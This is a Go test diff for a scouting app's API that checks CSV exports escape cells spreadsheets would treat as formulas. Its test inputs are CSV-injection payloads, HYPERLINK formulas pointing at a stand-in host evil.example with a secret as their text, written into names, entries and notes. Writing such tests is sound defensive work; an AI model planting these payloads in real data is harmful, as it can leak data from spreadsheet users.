@@ -1,6 +1,7 @@
 package api_test
 
 import (
+	"encoding/csv"
 	"encoding/json"
 	"fmt"
 	"io"
@@ -404,5 +405,43 @@ func TestNothingOfAnErasedPersonIsLeft(t *testing.T) {
 	}
 	if lines := s.audit(s.owner, "/api/operator/audit?action="+string(audit.PersonErased)).Data; len(lines) != 1 {
 		t.Errorf("the audit log: %+v", lines)
+	}
+}
+
+// TestNoCellOfAnyExportRuns has names and texts that spreadsheets take for formulas go
+// through every export of a team.
+func TestNoCellOfAnyExportRuns(t *testing.T) {
+	s := newServer(t)
+	g := s.stage()
+	query, _ := g.planned()
+	looked, kept := 0, 0
+	for _, start := range []string{"=", "+", "-", "@", "\t", "\r", "\n", "'="} {
+		evil := start + `HYPERLINK("https://evil.example","` + g.secret + `")`
+		quoted, err := json.Marshal(evil)
+		must(t, err)
+		for _, who := range []caller{student, leader} {
+			g.call("PATCH", "/api/me", g.tokens[who], `{"displayName":`+string(quoted)+`}`)
+		}
+		g.call("POST", "/api/scouting/entries", g.tokens[student], entryBody(g.team, `{"notes":`+string(quoted)+`}`))
+		g.call("POST", "/api/scouting/notes", g.tokens[student], fmt.Sprintf(`{"scoutingTeamId":%q,"scoutedTeamNumber":731,"text":%s}`, g.team, quoted))
+		for _, path := range []string{"/api/scouting/export.csv?season=2025&scoutingTeamId=" + g.team, "/api/scouting/export-notes.csv?season=2025&scoutingTeamId=" + g.team, "/api/scouting/assignments.csv" + query} {
+			a := g.call("GET", path, g.tokens[mentor], "")
+			rows, err := csv.NewReader(strings.NewReader(a.body)).ReadAll()
+			if err != nil || a.status != http.StatusOK || !strings.Contains(a.header.Get("Content-Disposition"), "attachment") {
+				t.Fatalf("%s: %d, %v", path, a.status, err)
+			}
+			for _, cell := range slices.Concat(rows...) {
+				looked++
+				if strings.Contains(cell, "HYPERLINK") {
+					kept++
+				}
+				if _, notNumber := strconv.ParseFloat(cell, 64); cell != "" && strings.IndexByte("=+-@\t\r\n", cell[0]) >= 0 && notNumber != nil {
+					t.Errorf("%s: the cell %q runs", path, cell)
+				}
+			}
+		}
+	}
+	if looked < 500 || kept < 50 {
+		t.Errorf("%d cells, %d with what was written", looked, kept)
 	}
 }
